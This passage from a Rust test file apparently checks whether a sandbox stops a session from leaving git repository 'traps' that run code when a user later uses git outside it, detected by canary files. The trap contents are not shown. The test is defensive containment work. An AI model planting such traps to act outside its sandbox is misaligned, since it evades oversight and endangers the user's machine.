    format!("(cd {place} && {{ {part}\n}}) >> {place}.said 2>&1 < /dev/null\n")
}

fn repository(trap: &Trap, desk: &Desk, number: usize, name: &str) {
    let place = format!("{name}{number}");
    desk.prepare(&format!(
        "mkdir {place} && cd {place} && git init -q && echo one > file && git add file && git commit -qm first && \
         echo two > file && git commit -qam second"
    ));
    let before = script(trap.before, desk, number, name);
    desk.prepare(&if trap.before.is_empty() { String::from("true") } else { before });
}

fn fired(desk: &Desk, number: usize, name: &str) -> bool {
    fs::symlink_metadata(desk.home(&format!("canary-{name}-{number}"))).is_ok()
}

#[test]
fn what_git_does_outside_with_what_a_session_left() {
    check(TRAPS);
}

/// Lays each trap with and without a sandbox.
pub(crate) fn check(traps: &[Trap]) {
    each_user(|desk| {
        let mut without = String::from("set +e\n");
        let mut inside = without.clone();
        for (number, trap) in traps.iter().enumerate() {
            for (name, attacks) in [("without", Some(&mut without)), ("inside", Some(&mut inside))] {
                repository(trap, &desk, number, name);
                attacks.unwrap().push_str(&script(trap.attack, &desk, number, name));
            }
        }
        desk.hand_over();
        desk.prepare(&(without + "true"));
        let told = desk.inside(&(inside + "true"));
        assert!(told.status.success(), "{}", shown(&told));
        for (number, trap) in traps.iter().enumerate() {
            assert!(!fired(&desk, number, "inside"), "{} fires inside", trap.sentence);
            for name in ["without", "inside"] {
                desk.prepare(&format!("set +e; {}true", script(trap.user, &desk, number, name)));
            }
        }
        let said =
            |number: usize| fs::read_to_string(desk.project(&format!("without{number}.said"))).unwrap_or_default();
        let mut wrong = String::new();
        for (number, trap) in traps.iter().enumerate() {
            if !fired(&desk, number, "without") {
                wrong += &format!("shows nothing: {}\n{}\n", trap.sentence, said(number));
            }
            if fired(&desk, number, "inside") {
                wrong += &format!("FIRES: {}\n", trap.sentence);
            }
        }
        assert!(wrong.is_empty(), "{wrong}{}", shown(&told));
    });
}
